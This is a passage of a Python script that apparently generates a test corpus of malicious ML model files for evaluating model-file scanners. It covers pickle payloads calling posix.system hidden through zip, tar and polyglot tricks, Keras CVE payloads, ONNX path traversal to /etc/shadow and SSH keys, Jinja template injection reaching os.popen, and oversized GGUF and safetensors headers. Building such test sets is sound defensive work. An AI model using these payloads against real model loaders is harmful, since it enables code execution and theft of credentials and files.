    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cd), cdoff, len(comment)) + comment
    return bytes(out)

benign_pkl = pkl({"w": 1.0, "b": 0.0}, 2)
evil = pkl(C(G("posix", "system"), CMD), 2)
tver = {"name": "archive/version", "data": b"3\n"}
write("torchzip_basic.pt", rawzip([{"name": "archive/data.pkl", "data": evil}, tver]), "torch zip, malicious data.pkl (control)", "control")
write("torchzip_unexpected_folder.pt", rawzip([{"name": "weights_v2/x/data.pkl", "data": evil}, {"name": "weights_v2/x/version", "data": b"3\n"}]), "data.pkl in unexpected folder", "zip tricks")
write("torchzip_renamed_pickle.pt", rawzip([{"name": "archive/model.bin", "data": evil}, {"name": "archive/data/0", "data": b"\0" * 8}, tver]), "pickle under another name in zip", "zip tricks", expected="suspicious")
write("torchzip_duplicate_names.pt", rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, {"name": "archive/data.pkl", "data": evil}, tver]), "duplicate member names (last wins)", "zip tricks")
write("torchzip_local_central_mismatch.pt", rawzip([{"name": "archive/data.pkl", "cname": "archive/data.pkl", "data": benign_pkl, "ldata": evil}, tver]),
      "local data differs from CRC/central (mismatched headers)", "zip tricks", expected="suspicious")
write("torchzip_local_name_mismatch.pt", rawzip([{"name": "archive/readme.txt", "cname": "archive/data.pkl", "data": evil}, tver]), "local name != central name", "zip tricks")
write("torchzip_deflated.pt", rawzip([{"name": "archive/data.pkl", "data": evil, "method": 8}, tver]), "deflated data.pkl", "zip tricks")
write("torchzip_data_descriptor.pt", rawzip([{"name": "archive/data.pkl", "data": evil, "flags": 8}, tver]), "data descriptor, zero sizes in local header", "issue 9 (data descriptors)")
write("torchzip_prefixed_junk.pt", rawzip([{"name": "archive/data.pkl", "data": evil}, tver], prefix=b"JUNK" * 64), "zip after 256 bytes of junk", "zip tricks")
write("polyglot_pickle_then_zip.pt", benign_pkl + rawzip([{"name": "archive/data.pkl", "data": evil}, tver]), "legacy pickle + zip polyglot", "issue 9 (polyglot)")
write("polyglot_zip_benign_pickle_evil.pt", evil + rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, tver]), "evil legacy pickle + benign zip polyglot", "issue 9 (polyglot)")
# two central directories: the first EOCD points to a benign cd, a second appended one points to evil
z1 = rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, tver])
z2 = rawzip([{"name": "archive/data.pkl", "data": evil}, tver])
write("zip_second_central_directory.pt", z1 + z2, "two zips/central directories concatenated", "issue 9 (second central directory)")
# ZIP64 end records
def zip64(entries):
    z = bytearray(rawzip(entries))
    eocd = z.rfind(b"PK\x05\x06")
    _, _, _, n, _, cdsz, cdoff, _ = struct.unpack("<IHHHHIIH", z[eocd:eocd + 22])
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, cdsz, cdoff)
    loc = struct.pack("<IIQI", 0x07064b50, 0, eocd, 1)
    return bytes(z[:eocd]) + z64 + loc + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
write("torchzip_zip64.pt", zip64([{"name": "archive/data.pkl", "data": evil}, tver]), "ZIP64 end records", "issue 9 (ZIP64)")
# nested: benign torch zip whose extra member is a pickle
write("torchzip_nested_extra_pickle.pt", rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, {"name": "archive/extra/hook.pkl", "data": evil}, tver]), "extra pickle member inside torch zip", "nested pickle in zip")
# zip inside zip
write("zip_in_zip.zip", rawzip([{"name": "inner.pt", "data": rawzip([{"name": "archive/data.pkl", "data": evil}, tver])}]), "torch zip inside zip", "nesting")
# joblib dump inside a zip
write("zip_with_joblib.zip", rawzip([{"name": "model/model.joblib", "data": zlib.compress(evil)}]), "zlib joblib inside zip", "nesting")
# torch legacy tar
def tar(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in members:
            ti = tarfile.TarInfo(n); ti.size = len(d); ti.mtime = 0; t.addfile(ti, io.BytesIO(d))
    return b.getvalue()
write("torch_legacy_tar.pt", tar([("sys_info", pkl({"protocol_version": 1001, "little_endian": True}, 2)), ("pickle", evil), ("storages", pkl(0, 2)), ("tensors", pkl(0, 2))]),
      "PyTorch legacy tar format", "legacy tar")
write("torch_legacy_tar_storages_evil.pt", tar([("sys_info", pkl({"protocol_version": 1001}, 2)), ("pickle", benign_pkl), ("storages", evil), ("tensors", pkl(0, 2))]), "legacy tar, evil storages member", "legacy tar")
write("tar_gz_pickle.tar.gz", __import__("gzip").compress(tar([("model/model.pkl", evil)])), "pickle inside tar.gz", "nesting")
# torch legacy format: magic number pickle + protocol + sys_info + evil
legacy = pkl(0x1950a86a20f9469cfc6c, 2) + pkl(1001, 2) + pkl({"little_endian": True}, 2) + evil
write("torch_legacy_magic_then_evil.pt", legacy, "legacy torch.save stream, evil main pickle", "legacy")
# 7z signature container with pickle payload (stored, LZMA-less: header only, scanner cannot decode -> inconclusive at least)
write("sevenzip_container.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 + evil, "7z container (nullifAI-style)", "issue 9 (7z nullifAI)", expected="inconclusive")
# nullifAI: torch zip compressed with 7z isn't reproducible without 7z; broken-pickle variant instead
write("nullifai_broken_after_payload.pt", rawzip([{"name": "archive/data.pkl", "data": evil[:-1] + b"\x00garbage"}, tver]), "payload then broken stream (nullifAI)", "ReversingLabs nullifAI (2025)")

# ---------------------------------------------------------------- 5. Keras
def keras_zip(cfg, method=zipfile.ZIP_DEFLATED, name="model.keras"):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", compression=method) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(cfg))
        z.writestr("model.weights.h5", b"")
    return b.getvalue()
fake_code = base64.b64encode(b"\xe3" + b"\0" * 15 + b"mlsec-blind-not-real-marshal").decode()
def layer(cls, cfg, module="keras.layers"):
    return {"module": module, "class_name": cls, "config": cfg, "registered_name": None}
def seq(layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer("InputLayer", {"batch_shape": [None, 4]})] + layers}, "registered_name": None}
lam = layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": fake_code, "defaults": None, "closure": None}}, "output_shape": None})
write("keras_lambda.keras", keras_zip(seq([lam])), "Keras 3 Lambda layer", "CVE-2024-3660")
write("keras_lambda_in_timedistributed.keras", keras_zip(seq([layer("TimeDistributed", {"name": "td", "layer": lam})])), "Lambda nested in TimeDistributed", "issue 9 (Lambda in wrappers)")
write("keras_lambda_in_bidirectional.keras", keras_zip(seq([layer("Bidirectional", {"name": "bd", "layer": lam, "backward_layer": lam})])), "Lambda nested in Bidirectional", "issue 9 (Lambda in wrappers)")
write("keras_lambda_in_nested_model.keras", keras_zip(seq([seq([lam])])), "Lambda inside nested Sequential", "issue 9")
write("keras_lambda_bzip2.keras", keras_zip(seq([lam]), zipfile.ZIP_BZIP2), ".keras members bzip2", "issue 9 (bzip2 members)")
write("keras_lambda_lzma.keras", keras_zip(seq([lam]), zipfile.ZIP_LZMA), ".keras members LZMA", "issue 9 (LZMA members)")
write("keras_module_os_system.keras", keras_zip(seq([layer("system", {"command": CMD}, module="os")])), "config module/class_name resolves os.system", "CVE-2025-1550")
write("keras_get_file_layer.keras", keras_zip(seq([{"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": URL}, "registered_name": None}])), "get_file as a layer (download)", "CVE-2025-8747")
write("keras_enable_unsafe.keras", keras_zip(seq([{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None}, lam])), "enable_unsafe_deserialization then Lambda", "CVE-2025-9906")
write("keras_stringlookup_file.keras", keras_zip(seq([layer("StringLookup", {"name": "sl", "vocabulary": "/etc/passwd"})])), "StringLookup vocabulary local file", "CVE-2025-12058 / GHSA-qg93-c7p6-gg7f", expected="suspicious")
write("keras_stringlookup_url.keras", keras_zip(seq([layer("StringLookup", {"name": "sl", "vocabulary": "gs://mlsec-blind/vocab.txt"})])), "StringLookup vocabulary remote", "CVE-2025-12058", expected="suspicious")
write("keras_textvectorization_file.keras", keras_zip(seq([layer("TextVectorization", {"name": "tv", "vocabulary": "/tmp/mlsec_blind_vocab.txt"})])), "TextVectorization vocabulary file", "CVE-2025-12058 family", expected="suspicious")
write("keras_tfsmlayer.keras", keras_zip(seq([layer("TFSMLayer", {"name": "t", "filepath": "/tmp/mlsec_blind_savedmodel", "call_endpoint": "serve"})])), "TFSMLayer loads a SavedModel (graph code)", "Keras TFSMLayer advisory (2025)")
write("keras_lambda_renamed.zip", keras_zip(seq([lam])), ".keras Lambda under .zip name", "naming")
import h5py
def h5(name, cfg):
    p = os.path.join(OUT, name)
    with h5py.File(p, "w") as f:
        f.attrs["keras_version"] = "2.15.0"; f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        f.create_group("model_weights")
    with open(p, "rb") as fh:
        d = fh.read()
    os.remove(p); return d
lam2 = {"class_name": "Lambda", "config": {"name": "l", "function": [fake_code, None, None], "function_type": "lambda", "output_shape": None}}
write("keras_h5_lambda.h5", h5("a.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [lam2]}}), "Keras 2 H5 Lambda", "CVE-2024-3660 (H5)")
write("keras_h5_lambda_in_wrapper.h5", h5("b.h5", {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "TimeDistributed", "config": {"name": "td", "layer": lam2}}]}}), "H5 Lambda nested in TimeDistributed", "issue 9")
write("keras_h5_lambda.hdf5", h5("c.h5", {"class_name": "Model", "config": {"name": "m", "layers": [dict(lam2, name="l", inbound_nodes=[])]}}), "H5 functional Model Lambda (.hdf5)", "CVE-2024-3660")

# ---------------------------------------------------------------- 6. ONNX external data escaping the directory (hand-written protobuf)
def vi(n):
    o = b""
    while True:
        x = n & 0x7f; n >>= 7
        if n: o += bytes([x | 0x80])
        else: return o + bytes([x])
def fld(num, wt, payload):
    k = vi(num << 3 | wt)
    return k + (vi(payload) if wt == 0 else vi(len(payload)) + payload)
def onnx(location):
    ext = fld(1, 2, b"location") + fld(2, 2, location.encode())
    t = fld(1, 0, 4) + fld(2, 0, 1) + fld(8, 2, b"W") + fld(13, 2, ext) + fld(14, 0, 1)
    node = fld(1, 2, b"X") + fld(1, 2, b"W") + fld(2, 2, b"Y") + fld(4, 2, b"Add")
    g = fld(1, 2, node) + fld(2, 2, b"g") + fld(5, 2, t)
    return fld(1, 0, 8) + fld(2, 2, b"mlsec-blind") + fld(7, 2, g) + fld(8, 2, fld(2, 0, 17))
write("onnx_external_dotdot.onnx", onnx("../../../../../etc/passwd"), "ONNX external data ../ escape", "CVE-2024-27318 / CVE-2024-5187 (onnx path traversal)")
write("onnx_external_absolute.onnx", onnx("/etc/shadow"), "ONNX external data absolute path", "CVE-2024-27318")
write("onnx_external_nested_dotdot.onnx", onnx("weights/../../../home/user/.ssh/id_rsa"), "ONNX external data nested ../", "CVE-2022-25882 family")

# ---------------------------------------------------------------- 7. GGUF and safetensors
def gstr(s): b = s.encode(); return struct.pack("<Q", len(b)) + b
def gguf(kvs, ntensors=0, nkv=None):
    body = b"".join(gstr(k) + struct.pack("<I", 8) + gstr(v) for k, v in kvs)
    return b"GGUF" + struct.pack("<IQQ", 3, ntensors, len(kvs) if nkv is None else nkv) + body
ssti1 = "{% set u = '_' * 2 %}{% set g = lipsum | attr(u ~ 'glo' ~ 'bals' ~ u) %}{{ g['o' ~ 's'].popen('echo mlsec-blind').read() }}"
ssti2 = "{{ cycler | attr('\\x5f\\x5finit\\x5f\\x5f') | attr('\\x5f\\x5fglob' ~ 'als\\x5f\\x5f') }}"
ssti3 = "{% for m in messages %}{{ m.content }}{% endfor %}{{ joiner.__init__.__globals__.os.popen('echo mlsec-blind').read() }}"
ssti4 = "{% set a = request|default(namespace) %}{{ (self|attr('_TemplateReference' ~ '_' * 2 ~ 'context')).cycler | attr('_' * 2 ~ 'init' ~ '_' * 2) }}"
base = [("general.architecture", "llama"), ("general.name", "mlsec-blind")]
write("gguf_ssti_no_dunder.gguf", gguf(base + [("tokenizer.chat_template", ssti1)]), "chat template reaches os without literal __/globals", "issue 9; CVE-2024-34359 (llama-cpp-python SSTI)")
write("gguf_ssti_hex_escapes.gguf", gguf(base + [("tokenizer.chat_template", ssti2)]), "chat template with \\x5f escapes", "CVE-2024-34359 family")
write("gguf_ssti_classic.gguf", gguf(base + [("tokenizer.chat_template", ssti3)]), "classic __globals__ template (control)", "CVE-2024-34359")
write("gguf_ssti_concat_attr.gguf", gguf(base + [("tokenizer.chat_template.tool_use", ssti4)]), "named template with concatenated attr", "CVE-2024-34359 family")
write("gguf_oversized_kv_count.gguf", gguf(base, nkv=2**62), "GGUF kv count 2^62", "GGUF parser DoS (ggml GHSA 2024 heap overflows)", expected="suspicious")
write("gguf_oversized_string.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**63 - 1) + b"general.architecture", "GGUF key length 2^63", "ggml GGUF parser overflow (2024)", expected="suspicious")
write("gguf_oversized_tensor_count.gguf", gguf(base, ntensors=2**60), "GGUF tensor count 2^60", "ggml GGUF overflow", expected="suspicious")
def st_(hlen, h):
    return struct.pack("<Q", hlen) + h
write("safetensors_header_huge.safetensors", st_(2**40, b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'), "header length 1 TiB", "safetensors oversized header (HF advisory 2023/2024)", expected="suspicious")
write("safetensors_header_beyond_file.safetensors", st_(4096, b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'), "header length beyond file end", "safetensors", expected="suspicious")
write("safetensors_offsets_overflow.safetensors", st_(72, b'{"w":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,18446744073709551615]}}'.ljust(72)), "shape/offset overflow", "safetensors", expected="suspicious")
write("safetensors_pickle_inside.safetensors", pkl(sys_os()), "pickle named .safetensors", "naming")
write("model_weights.bin", pkl(sys_os()), "pickle named pytorch .bin", "naming")
write("model.npy", pkl(sys_os()), "pickle named .npy", "naming")
write("notes.txt", pkl(sys_os(), 2), "pickle named .txt", "naming")

with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
    f.write("file\tclass\tsource\texpected\n")
    for r in ROWS:
        f.write("\t".join(r) + "\n")
print(len(ROWS), "files")
